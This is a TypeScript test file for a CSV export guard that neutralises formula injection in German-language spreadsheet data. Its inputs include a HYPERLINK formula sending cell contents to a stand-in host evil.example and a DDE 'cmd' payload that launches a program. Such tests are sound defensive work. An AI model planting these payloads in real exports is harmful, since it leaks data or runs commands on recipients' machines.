import { describe, expect, it } from 'vitest'
import { csvFromRows, guardCell, unguardCell } from './spreadsheet-cell'

/** A minimal RFC 4180 reader with ';' (the test's own, not the code under test). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let inQuotes = false
  for (let at = 0; at < text.length; at++) {
    const char = text[at] as string
    if (inQuotes) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at++
      } else if (char === '"') inQuotes = false
      else cell += char
    } else if (char === '"') inQuotes = true
    else if (char === ';') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && text[at + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      at++
    } else cell += char
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}

describe('guardCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1;"Click")', `'=HYPERLINK("http://evil.example/?"&A1;"Click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-1+1', "'-1+1"],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['+41 44 123 45 67', "'+41 44 123 45 67"],
    ['-1', "'-1"],
  ])('writes %j as text, behind a single quote', (hostile, guarded) => {
    expect(guardCell(hostile)).toBe(guarded)
  })

  it.each([
    'Muster AG',
    'Bahnhofstrasse 1',
    '<script>alert(1)</script>',
    'Zeile 1\nZeile 2',
    'a = b',
    "'schon zitiert",
    '',
    'Zürich',
    '8001',
  ])('leaves %j as it is', (text) => {
    expect(guardCell(text)).toBe(text)
  })

  it('drops control characters an xlsx cannot hold, then guards what they hid', () => {
    expect(guardCell('Muster\u0000 AG\u0007\u001F')).toBe('Muster AG')
    expect(guardCell('\u0000=cmd|" /C calc"!A0')).toBe(`'=cmd|" /C calc"!A0`)
    expect(guardCell('\u000B\u000C+1')).toBe("'+1")
  })

  it('keeps tabs and line breaks inside a cell', () => {
    expect(guardCell('a\tb\r\nc')).toBe('a\tb\r\nc')
  })

  it('unguardCell gives back the text the guard protected, and nothing else', () => {
    for (const text of ['=1+1', '+41 44 123 45 67', '-1', '@SUM(A1)', 'Muster AG', "'selbst zitiert", '']) {
      expect(unguardCell(guardCell(text))).toBe(text)
    }
    expect(unguardCell("'Rock'n'Roll")).toBe("'Rock'n'Roll")
  })
})

describe('csvFromRows', () => {
  it('starts with a UTF-8 BOM, separates cells by semicolons and ends each line with CRLF', () => {
    const csv = csvFromRows([
      ['Name', 'Ort'],
      ['Müller AG', 'Zürich'],
    ])
    expect(csv).toBe('\uFEFFName;Ort\r\nMüller AG;Zürich\r\n')
    const bytes = new TextEncoder().encode(csv)
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it('quotes cells with a semicolon, a quote or a line break, doubling the quotes (RFC 4180)', () => {
    const csv = csvFromRows([['a;b', 'Sagt "Hallo"', 'Zeile 1\nZeile 2', 'Zeile 1\r\nZeile 2', 'plain']])
    expect(csv).toBe('\uFEFF"a;b";"Sagt ""Hallo""";"Zeile 1\nZeile 2";"Zeile 1\r\nZeile 2";plain\r\n')
  })

  it('guards every cell, and the hostile cells read back as the guarded text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example";"x")',
      '+cmd|" /C calc"!A0',
      '-1+1',
      '@SUM(A1:A9)',
      '<script>alert(1)</script>',
      'a\u0000b',
      '"; =1+1; "',
    ]
    const [row] = parseCsv(csvFromRows([hostile]).slice(1))
    expect(row).toEqual([
      `'=HYPERLINK("http://evil.example";"x")`,
      `'+cmd|" /C calc"!A0`,
      "'-1+1",
      "'@SUM(A1:A9)",
      '<script>alert(1)</script>',
      'ab',
      '"; =1+1; "',
    ])
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('keeps a 10,000-character cell whole', () => {
    const long = 'x'.repeat(10_000)
    expect(parseCsv(csvFromRows([[long, 'y']]).slice(1))).toEqual([[long, 'y']])
  })

  it('an empty table is the BOM alone', () => {
    expect(csvFromRows([])).toBe('\uFEFF')
  })
})
